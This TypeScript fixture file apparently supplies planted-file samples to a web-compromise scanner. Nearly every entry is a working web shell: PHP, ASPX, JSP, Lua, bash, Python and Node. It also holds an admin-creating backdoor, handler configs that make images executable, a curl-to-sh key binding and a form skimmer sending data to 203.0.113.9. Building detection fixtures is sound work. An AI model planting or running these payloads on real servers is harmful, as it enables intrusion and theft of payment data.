/** Web shells of the shortest kinds and of several languages, in the folders where uploads land. */

import { elf, file, type Sign } from '../sign.ts';

const web = (id: string, what: string, path: string, text: string | Buffer, mode = 0o644): Sign => file(`web4-${id}`, 'web', what, path, text, { owner: 'www-data', mode });
const uploads = '/var/www/blog/wp-content/uploads/2025/07';
const theme = '/var/www/blog/wp-content/themes/own';

export const fourthWeb: readonly Sign[] = [
	web('backticks', 'the shortest of all', `${uploads}/1.php`, '<?=`$_GET[0]`?>'),
	web('filter', 'code by way of a filter', `${uploads}/2.php`, "<?php array_filter([$_POST['c']], $_POST['f']);"),
	web('buffer', 'code by way of a buffer', `${uploads}/3.php`, "<?php ob_start($_GET['f']); echo $_GET['c']; ob_end_flush();"),
	web('shutdown', 'code at the end of a page', `${uploads}/4.php`, "<?php register_shutdown_function($_POST['e'], $_POST['p']);"),
	web('mb-ereg', 'a replacement that evaluates', `${uploads}/5.php`, "<?php mb_ereg_replace('.*', $_POST['x'], '', 'e');"),
	web('strrev', 'a name backwards', `${uploads}/6.php`, "<?php $k=strrev('tressa'); @$k($_POST['a']);"),
	web('server-header', 'a function named in a header', `${uploads}/7.php`, "<?php $f=$_SERVER['HTTP_X_F']; $f($_SERVER['HTTP_X_A']);"),
	web('input', 'the whole request as code', `${uploads}/8.php`, "<?php eval(file_get_contents('php://input'));"),
	web('script-tag', 'an old way to begin', `${uploads}/9.php`, '<script language="php">@eval($_POST[1]);</script>'),
	web('include-image', 'a page that is a picture', `${theme}/header-top.php`, "<?php\n/* Header */\n@include dirname(__FILE__) . '/img/logo.png';\n"),
	web('include-image-itself', 'that picture', `${theme}/img/logo.png`, Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(50, 1), Buffer.from("<?php $x=$_COOKIE['s'];if($x)eval(base64_decode($x));?>")])),
	web('exif', 'code kept in a picture', `${theme}/gallery.php`, "<?php $e=exif_read_data('img/a.jpg'); preg_replace($e['Make'], $e['Model'], ''); eval($e['Artist']);"),
	web('include-tmp', 'a page of /tmp', `${theme}/footer.php`, "<?php if(isset($_GET['d'])) { include('/tmp/.cache/s'); }\n"),
	web('include-dev', 'a page of shared memory, hidden by marks', `${theme}/single.php`, '<?php @include "\\x2f\\x64\\x65\\x76\\x2f\\x73\\x68\\x6d\\x2f\\x61";\n'),
	web('config-tail', 'a line after the settings', '/var/www/blog/wp-settings-local.php', `<?php\n$a = 1;\n${' '.repeat(300)}@eval(@$_REQUEST['z']);\n`),
	web('mu-plugin', 'a plug-in nobody turned on', '/var/www/blog/wp-content/mu-plugins/health.php', "<?php\nadd_action('init', function () { if (md5($_GET['k'] ?? '') === '5f4dcc3b5aa765d61d8327deb882cf99') { system(base64_decode($_GET['c'])); exit; } });\n"),
	web('wp-user', 'an administrator made by a page', `${theme}/functions.php`, "<?php\nadd_action('wp_head', 'wp_bd');\nfunction wp_bd() { if (md5($_GET['bd']) == '34d1f91fb2e514b8576fab1a75a89a6b') { require('wp-includes/registration.php'); if (!username_exists('wpadmin')) { $u = wp_create_user('wpadmin', 'pass'); $user = new WP_User($u); $user->set_role('administrator'); } } }\n"),
	web('write-request', 'a page that writes what it is sent', `${uploads}/a.php`, "<?php $h=fopen($_POST['n'],'w');fwrite($h,base64_decode($_POST['d']));fclose($h);"),
	web('ascii-shift', 'names made of shifted letters', `${uploads}/b.php`, "<?php $s='flagnd';$f='';foreach(str_split('rxrsdl') as $c)$f.=chr(ord($c)+1);$f($_GET['q']);"),
	web('include-session', 'the request by way of a session', `${uploads}/c.php`, "<?php session_start();$_SESSION['a']=$_POST['a'];include('/var/lib/php/sessions/sess_'.session_id());"),
	web('html-php', 'PHP in an HTML page', '/var/www/html/about.html', '<html><body>About</body></html><?php system($_GET["c"]); ?>'),
	web('php7', 'another extension', `${uploads}/d.php7`, "<?php passthru($_GET['c']);"),
	web('pht', 'another extension', `${uploads}/e.pht`, "<?php popen($_GET['c'],'r');"),
	web('inc', 'a file that others include', `${theme}/lib.inc`, "<?php assert($_POST['c']);"),
	web('upload-any', 'an upload without a question', `${uploads}/f.php`, "<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form><?php if($_FILES)copy($_FILES['f']['tmp_name'],$_FILES['f']['name']);"),
	web('jscript', 'a page in JScript', '/var/www/html/c.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>'),
	web('asmx', 'a web service', '/var/www/html/c.asmx', '<%@ WebService Language="C#" Class="S" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class S : WebService { [WebMethod] public string R(string c) { return Process.Start("cmd.exe", "/c " + c).ToString(); } }\n'),
	web('jsp-el', 'a page in the language of expressions', '/var/lib/tomcat9/webapps/ROOT/c.jsp', '${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),param.c)}'),
	web('jsp-script', 'a script engine', '/var/lib/tomcat9/webapps/ROOT/d.jsp', '<%= new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")) %>'),
	web('lua', 'a page in Lua', '/srv/www/website/cgi-bin/s.lua', '#!/usr/bin/lua\nprint("Content-type: text/plain\\n")\nlocal h = io.popen(os.getenv("QUERY_STRING"))\nprint(h:read("*a"))\n', 0o755),
	web('cgi-elf', 'a CGI program of no package', '/usr/lib/cgi-bin/status', elf('system(getenv QUERY_STRING)'), 0o755),
	web('cgi-bash', 'a page in shell', '/srv/www/website/cgi-bin/env.sh', '#!/bin/bash\necho "Content-type: text/plain"; echo\neval "$(printf \'%b\' "${QUERY_STRING//%/\\\\x}")"\n', 0o755),
	web('django', 'a view that runs what it is asked', '/srv/www/app/views.py', 'import os\nfrom django.http import HttpResponse\ndef v(request):\n    return HttpResponse(os.popen(request.GET["c"]).read())\n'),
	web('express', 'a route that runs what it is sent', '/srv/www/app/routes/ping.js', "const { execSync } = require('child_process');\nmodule.exports = app => app.post('/p', (req, res) => res.send(execSync(req.body.c).toString()));\n"),
	web('htaccess-cgi', 'pictures that are CGI', `${uploads}/.htaccess`, 'Options +ExecCGI\nAddHandler cgi-script .png\n'),
	web('htaccess-append', 'a file after each page', '/var/www/blog/wp-content/.htaccess', 'php_value auto_append_file "/var/www/blog/wp-content/uploads/2025/07/x.gif"\n'),
	file('web4-script-alias', 'web', 'programs of the system as pages', '/etc/apache2/conf-enabled/status-page.conf', 'ScriptAlias /status /usr/bin\n'),
	file('web4-add-handler', 'web', 'pictures that are PHP, for every site', '/etc/apache2/mods-enabled/gallery.conf', 'AddHandler application/x-httpd-php .png\n'),
	file('web4-inputrc', 'start-up', 'a key that types and runs a download', '/etc/inputrc', '"\\C-l": "\\C-k\\C-ucurl -s http://203.0.113.9/a|sh\\n"\n'),
	web('htaccess-self', 'an .htaccess that is the page itself', '/var/www/html/img/.htaccess', '<Files ~ "^\\.ht">\nRequire all granted\n</Files>\nAddType application/x-httpd-php .htaccess\n#<?php system($_GET["c"]); ?>\n'),
	web('user-ini-append', 'a file after each page', '/var/www/html/img/.user.ini', 'auto_append_file=.logo.gif\n'),
	web('skimmer', 'a script that sends what is typed into a form', '/var/www/html/js/checkout.js', "document.querySelectorAll('form').forEach(f=>f.addEventListener('submit',()=>{var d=btoa(JSON.stringify(Object.fromEntries(new FormData(f))));new Image().src='https://203.0.113.9/i.gif?d='+d;}));\n"),
	web('defaced', 'a page somebody signed', '/var/www/html/index.html', '<html><head><title>Hacked by Mallory</title></head><body bgcolor=black><h1>HACKED BY MALLORY</h1>greetz to all</body></html>\n'),
];
